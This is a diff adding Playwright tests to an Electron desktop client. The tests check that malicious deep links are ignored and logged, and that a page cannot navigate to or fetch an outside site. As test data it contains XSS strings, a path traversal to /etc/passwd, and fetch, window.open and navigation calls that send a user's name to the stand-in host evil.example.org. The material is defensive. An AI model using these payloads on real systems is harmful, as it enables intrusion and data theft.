@@ -3,7 +3,13 @@ import { basename, dirname, join } from 'node:path';
 import type { Page } from 'playwright/test';
 import * as z from 'zod/mini';
 import { type CallName, desktopCalls } from '#shared/ipc/desktop.ts';
-import { type DesktopApp, expect, type PageGlobals, test } from '../fixtures/desktop-test.ts';
+import {
+  type DesktopApp,
+  electronExe,
+  expect,
+  type PageGlobals,
+  test,
+} from '../fixtures/desktop-test.ts';
 
 /** What the client has written down so far. */
 const logOf = async (app: DesktopApp): Promise<readonly string[]> => {
@@ -113,4 +119,48 @@ test('a proposed file name never leaves the folder that the person saves to', as
     expect(name).toMatch(/^[^\\/:*?"<>|\u202E.][^\\/:*?"<>|\u202E]*\.(?:xlsx|png)$/);
     expect(name).not.toMatch(/^con\./i);
   }
+});
+
+test('a link with a script in it shows nothing, and the log says that one came', async ({
+  app,
+  page,
+  launch,
+}) => {
+  test.skip(
+    Boolean(electronExe),
+    'a second process of real Electron ends before it can be attached',
+  );
+  const links = [
+    'portal://open/%3Cscript%3Ealert(1)%3C/script%3E',
+    'portal:javascript:alert(1)',
+    'portal://open/javascript:alert(1)',
+    'portal://open/../../etc/passwd',
+    'portal://evil.example.org/crm',
+    `portal://open/${'a/'.repeat(600)}`,
+  ];
+  const before = await page.evaluate(() => location.hash);
+  await expect(launch({ words: links })).rejects.toThrow();
+  await expect
+    .poll(async () => (await logOf(app)).filter((line) => line.startsWith('Ignored a link')))
+    .toHaveLength(links.length);
+  expect(await page.evaluate(() => location.hash)).toBe(before);
+  expect((await logOf(app)).join()).not.toContain('alert(1)');
+});
+
+test('what a page may not do is written down, by its place alone', async ({ app, page }) => {
+  await page.evaluate(async () => {
+    window.open('https://evil.example.org/secret?of=anna');
+    location.href = 'https://evil.example.org/secret?of=anna';
+    await fetch('https://evil.example.org/secret?of=anna').catch(() => undefined);
+  });
+  await page.click('#download');
+  await expect
+    .poll(() => logOf(app))
+    .toEqual(
+      expect.arrayContaining([
+        'Kept a page from going to https://evil.example.org.',
+        'Stopped a download behind the back of the save dialog.',
+      ]),
+    );
+  expect((await logOf(app)).join()).not.toContain('anna');
 });
